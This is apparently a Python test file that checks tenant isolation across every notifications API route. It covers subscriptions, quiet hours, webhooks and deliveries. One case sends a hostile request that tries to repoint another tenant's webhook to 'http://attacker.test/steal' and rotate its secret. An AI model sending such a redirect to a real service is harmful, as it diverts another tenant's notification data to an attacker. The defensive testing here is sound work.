"""Cross-tenant cases for every notifications route, for the route table in tests/api/test_tenant_isolation.py
(same contract as tests/assets/isolation_cases.py). Each case makes the tenant-B objects it needs with B's admin
credentials, then tries to reach them with A's, and checks B's objects are unchanged."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from typing import Any

N = "/api/v1/notifications"
NOWHERE = "http://127.0.0.1:9/hook"  # discard port: nothing listens


async def _b_subscription(w: Any) -> dict[str, Any]:
    r = await w.client.post(
        f"{N}/subscriptions", headers=w.b.auth, json={"name": "b", "site_ids": [str(w.b_ids["site"])]}
    )
    assert r.status_code == 201, r.text
    return dict(r.json())


async def _b_webhook(w: Any) -> dict[str, Any]:
    r = await w.client.post(f"{N}/webhooks", headers=w.b.auth, json={"name": "b-hook", "url": NOWHERE})
    assert r.status_code == 201, r.text
    return dict(r.json())


async def _b_delivery(w: Any) -> dict[str, Any]:
    hook = await _b_webhook(w)
    r = await w.client.post(f"{N}/webhooks/{hook['id']}/test", headers=w.b.auth)
    assert r.status_code == 202, r.text
    return dict(r.json())


async def _b_quiet(w: Any) -> None:
    body = {"start": "22:00", "end": "06:00", "timezone": "Europe/Berlin"}
    assert (await w.client.put(f"{N}/quiet-hours", headers=w.b.auth, json=body)).status_code == 200


def register_notifications_cases(
    case: Callable[[str, str], Callable[[Any], Any]], is_404: Callable[[Any], Awaitable[None]]
) -> None:
    @case("GET", f"{N}/subscriptions")
    async def _list_subs(w: Any) -> None:
        sub = await _b_subscription(w)
        mine = (await w.client.get(f"{N}/subscriptions", headers=w.a.auth)).json()["items"]
        assert sub["id"] not in {s["id"] for s in mine}
        theirs = await w.client.get(f"{N}/subscriptions", headers=w.a.auth, params={"user_id": sub["user_id"]})
        assert theirs.json()["items"] == []

    @case("POST", f"{N}/subscriptions")
    async def _create_sub(w: Any) -> None:
        r = await w.client.post(f"{N}/subscriptions", headers=w.a.auth, json={"site_ids": [str(w.b_ids["site"])]})
        await is_404(r)
        own = await w.client.post(f"{N}/subscriptions", headers=w.a.auth, json={"tenant_id": str(w.b.id)})
        assert own.status_code == 422  # the tenant comes from the credentials; no such field

    @case("GET", f"{N}/subscriptions/{{subscription_id}}")
    async def _get_sub(w: Any) -> None:
        sub = await _b_subscription(w)
        await is_404(await w.client.get(f"{N}/subscriptions/{sub['id']}", headers=w.a.auth))

    @case("PATCH", f"{N}/subscriptions/{{subscription_id}}")
    async def _patch_sub(w: Any) -> None:
        sub = await _b_subscription(w)
        await is_404(await w.client.patch(f"{N}/subscriptions/{sub['id']}", headers=w.a.auth, json={"enabled": False}))
        assert (await w.client.get(f"{N}/subscriptions/{sub['id']}", headers=w.b.auth)).json()["enabled"] is True

    @case("DELETE", f"{N}/subscriptions/{{subscription_id}}")
    async def _delete_sub(w: Any) -> None:
        sub = await _b_subscription(w)
        await is_404(await w.client.delete(f"{N}/subscriptions/{sub['id']}", headers=w.a.auth))
        assert (await w.client.get(f"{N}/subscriptions/{sub['id']}", headers=w.b.auth)).status_code == 200

    @case("GET", f"{N}/quiet-hours")
    async def _get_quiet(w: Any) -> None:
        await _b_quiet(w)
        await is_404(await w.client.get(f"{N}/quiet-hours", headers=w.a.auth))

    @case("PUT", f"{N}/quiet-hours")
    async def _put_quiet(w: Any) -> None:
        await _b_quiet(w)
        body = {"start": "01:00", "end": "02:00", "timezone": "UTC"}
        assert (await w.client.put(f"{N}/quiet-hours", headers=w.a.auth, json=body)).status_code == 200
        assert (await w.client.get(f"{N}/quiet-hours", headers=w.b.auth)).json()["timezone"] == "Europe/Berlin"

    @case("DELETE", f"{N}/quiet-hours")
    async def _delete_quiet(w: Any) -> None:
        await _b_quiet(w)
        await is_404(await w.client.delete(f"{N}/quiet-hours", headers=w.a.auth))
        assert (await w.client.get(f"{N}/quiet-hours", headers=w.b.auth)).status_code == 200

    @case("GET", f"{N}/webhooks")
    async def _list_hooks(w: Any) -> None:
        hook = await _b_webhook(w)
        mine = (await w.client.get(f"{N}/webhooks", headers=w.a.auth)).json()["items"]
        assert hook["id"] not in {h["id"] for h in mine}

    @case("POST", f"{N}/webhooks")
    async def _create_hook(w: Any) -> None:
        body = {"name": "x", "url": NOWHERE, "site_ids": [str(w.b_ids["site"])]}
        await is_404(await w.client.post(f"{N}/webhooks", headers=w.a.auth, json=body))

    @case("GET", f"{N}/webhooks/{{endpoint_id}}")
    async def _get_hook(w: Any) -> None:
        hook = await _b_webhook(w)
        await is_404(await w.client.get(f"{N}/webhooks/{hook['id']}", headers=w.a.auth))

    @case("PATCH", f"{N}/webhooks/{{endpoint_id}}")
    async def _patch_hook(w: Any) -> None:
        hook = await _b_webhook(w)
        body = {"url": "http://attacker.test/steal", "rotate_secret": True}
        await is_404(await w.client.patch(f"{N}/webhooks/{hook['id']}", headers=w.a.auth, json=body))
        assert (await w.client.get(f"{N}/webhooks/{hook['id']}", headers=w.b.auth)).json()["url"] == NOWHERE

    @case("DELETE", f"{N}/webhooks/{{endpoint_id}}")
    async def _delete_hook(w: Any) -> None:
        hook = await _b_webhook(w)
        await is_404(await w.client.delete(f"{N}/webhooks/{hook['id']}", headers=w.a.auth))
        assert (await w.client.get(f"{N}/webhooks/{hook['id']}", headers=w.b.auth)).status_code == 200

    @case("POST", f"{N}/webhooks/{{endpoint_id}}/test")
    async def _test_hook(w: Any) -> None:
        hook = await _b_webhook(w)
        await is_404(await w.client.post(f"{N}/webhooks/{hook['id']}/test", headers=w.a.auth))
        theirs = await w.client.get(f"{N}/deliveries", headers=w.b.auth, params={"endpoint_id": hook["id"]})
        assert theirs.json()["items"] == []

    @case("GET", f"{N}/deliveries")
    async def _list_deliveries(w: Any) -> None:
        d = await _b_delivery(w)
        mine = (await w.client.get(f"{N}/deliveries", headers=w.a.auth)).json()["items"]
        assert d["id"] not in {x["id"] for x in mine}
        by_hook = await w.client.get(f"{N}/deliveries", headers=w.a.auth, params={"endpoint_id": d["endpoint_id"]})
        assert by_hook.json()["items"] == []

    @case("GET", f"{N}/dead-letters")
    async def _dead_letters(w: Any) -> None:
        d = await _b_delivery(w)
        mine = (await w.client.get(f"{N}/dead-letters", headers=w.a.auth)).json()["items"]
        assert d["id"] not in {x["id"] for x in mine}
        assert {x["tenant_id"] for x in mine} <= {str(w.a.id)}

    @case("GET", f"{N}/deliveries/{{delivery_id}}")
    async def _get_delivery(w: Any) -> None:
        d = await _b_delivery(w)
        await is_404(await w.client.get(f"{N}/deliveries/{d['id']}", headers=w.a.auth))

    @case("POST", f"{N}/deliveries/{{delivery_id}}/retry")
    async def _retry_delivery(w: Any) -> None:
        d = await _b_delivery(w)
        await is_404(await w.client.post(f"{N}/deliveries/{d['id']}/retry", headers=w.a.auth))
        assert (await w.client.get(f"{N}/deliveries/{d['id']}", headers=w.b.auth)).status_code == 200
